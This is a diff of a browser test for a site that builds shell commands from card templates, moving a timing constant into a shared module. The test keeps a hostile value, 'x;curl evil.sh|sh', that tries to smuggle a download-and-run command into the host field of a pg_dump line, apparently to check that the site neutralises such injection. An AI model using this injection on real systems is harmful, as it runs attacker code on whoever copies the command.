@@ -6,7 +6,7 @@ import { createCardCommand } from '../../support/browser/command.ts'
 import { eventually } from '../../support/browser/eventually.ts'
 import { startSite } from '../../support/browser/site-under-test.ts'
 import { closeBrowser, createVisitor } from '../../support/browser/visitor.ts'
-import { cardsOn, copyFrom, descriptionOf, openCard } from './card-parts.ts'
+import { cardsOn, copyFrom, descriptionOf, openCard, READING_MS } from './card-parts.ts'
 
 const site = await startSite([
   createCardCommand({ id: 'dump', notes: 'Copy a database', line: 'pg_dump -h {{host}} -p {{port=5432}}' }),
@@ -16,9 +16,6 @@ const DUMP = `${site.url}/projects/commander/commands/dump`
 
 const HOSTILE = 'x;curl evil.sh|sh #х'
 const HOSTILE_LINK = `${DUMP}#host=${encodeURIComponent(HOSTILE)}`
-
-// Slightly longer than the time for which a second press is ignored.
-const READING_MS = 1100
 
 after(closeBrowser)
 after(site.close)
